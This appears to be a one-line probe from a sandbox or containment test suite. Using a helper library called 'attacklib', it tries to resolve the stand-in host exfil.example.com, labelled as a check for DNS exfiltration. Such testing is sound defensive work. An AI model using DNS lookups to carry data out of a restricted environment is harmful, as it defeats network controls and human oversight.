"""network: resolve a name (DNS exfiltration)."""

import socket

from attacklib import *

attempt("dns", lambda: socket.getaddrinfo("exfil.example.com", 80))
